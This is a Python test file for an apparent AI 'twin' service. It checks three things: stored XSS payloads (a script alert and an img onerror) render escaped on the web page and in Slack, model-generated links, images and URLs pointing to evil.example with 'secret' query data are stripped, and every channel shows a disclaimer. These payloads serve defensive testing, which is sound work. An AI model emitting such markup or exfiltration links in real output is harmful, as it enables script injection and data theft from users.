"""Output safety: hostile markup in a source renders inert on the Ask page and in Slack; a model's link or image to
anywhere is never shown; every channel's answer carries the twin's disclaimer."""

from __future__ import annotations

import re

from click.testing import CliRunner
from sqlalchemy.orm import Session, sessionmaker

from service.cli import main
from service.corpus import store
from service.web.auth import make_dev_login_link
from tests.api.conftest import parsed
from tests.slack.fake_slack import FakeSlack
from tests.trust.conftest import SlackDriver, TrustWorld

HOSTILE = ('Our depot <script>alert("xss")</script> opens at six <img src=x onerror="alert(1)"> every '
           'weekday morning for drivers.')
HOSTILE_QUESTION = "When does the depot open every weekday morning for drivers?"
CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)"')
DISCLAIMER = "AI twin of Dana Reyes"


def add_hostile(session_factory: sessionmaker[Session]) -> None:
    with session_factory() as session:
        twin = store.get_twin(session, "dana")
        store.add_source(session, twin, parsed("Depot <b>hours</b>", "depot.docx", HOSTILE), approve=True)
        session.commit()


def test_a_hostile_source_renders_inert_on_the_ask_page(app, world: TrustWorld, session_factory) -> None:
    add_hostile(session_factory)
    client = app.test_client()
    page = client.get(make_dev_login_link(app, "employee@example.com"), follow_redirects=True)
    meta = CSRF_META.search(page.get_data(as_text=True))
    assert meta is not None
    token = meta.group(1)
    html = client.post("/ask", data={"csrf_token": token, "twin": "dana", "question": HOSTILE_QUESTION},
                       follow_redirects=True).get_data(as_text=True)  # the form lands on the conversation
    assert "opens at six" in html  # the source was quoted
    assert "<script>alert" not in html and "<img src=x" not in html and "<b>hours</b>" not in html
    assert "&lt;script&gt;" in html or "&lt;img" in html
    assert DISCLAIMER in html


def test_a_hostile_source_is_text_in_slack(slack: SlackDriver, fake_slack: FakeSlack, session_factory) -> None:
    add_hostile(session_factory)
    slack.command("/twin", f"dana {HOSTILE_QUESTION}")
    post = fake_slack.wait_for(lambda f: next((p for p in f.posts if "answer_actions" in p.dumped), None))
    assert "opens at six" in post.dumped and DISCLAIMER in post.dumped
    assert "<script>" not in post.dumped and "&lt;script&gt;" in post.dumped


def test_a_models_link_or_image_is_never_shown(make_app, world: TrustWorld, fake_openai) -> None:
    client = make_app(llm_base_url=fake_openai.base_url, llm_model="fake-gpt", llm_api_key="k",
                      llm_timeout=2.0).test_client()
    headers = world.people["employee"].headers
    cold = "I chose cold chain because pharmaceutical customers pay for reliability."
    for script in (f"{cold} ![chart](https://evil.example/x.png?d=secret) [1]",
                   f"{cold} [details](https://evil.example/login) [1]",
                   f"{cold} See https://evil.example/q?secret [1]",
                   f"{cold} <img src=https://evil.example/p> [1]",
                   f"<!channel> {cold} [1]"):
        fake_openai.set_mode("scripted", script=script)
        for accept in ("application/json", "text/event-stream"):
            response = client.post("/api/v1/twins/dana/ask", json={"question": "Why did you choose cold chain for "
                                                                               "pharmaceutical customers?"},
                                   headers={**headers, "Accept": accept})
            body = response.get_data(as_text=True)
            final = body.rsplit("event: answer", 1)[-1]  # a stream may show the model's text before replacing it
            assert "evil.example" not in final and "<!channel>" not in final, (script, final[:300])
            assert "pharmaceutical customers pay for reliability" in final and DISCLAIMER in final


def test_every_channel_labels_the_answer_as_the_twins(client, database_url: str, world: TrustWorld) -> None:
    question = "Why did you choose cold chain for pharmaceutical customers?"
    headers = world.people["employee"].headers
    assert DISCLAIMER in client.post("/api/v1/twins/dana/ask", json={"question": question},
                                     headers=headers).get_json()["disclaimer"]
    stream = client.post("/api/v1/twins/dana/ask", json={"question": question},
                         headers={**headers, "Accept": "text/event-stream"}).get_data(as_text=True)
    assert DISCLAIMER in stream.rsplit("event: answer", 1)[-1]
    rehearsal = client.post("/api/v1/twins/dana/rehearsals", json={"pitch": "Late departures at the depot are up. "
                                                                             "We ask you to approve a night shift "
                                                                             "at the depot by May."}, headers=headers)
    assert DISCLAIMER in rehearsal.get_json()["disclaimer"]
    result = CliRunner().invoke(main, ["--database-url", database_url, "ask", "dana", question])
    assert result.exit_code == 0 and DISCLAIMER in result.output
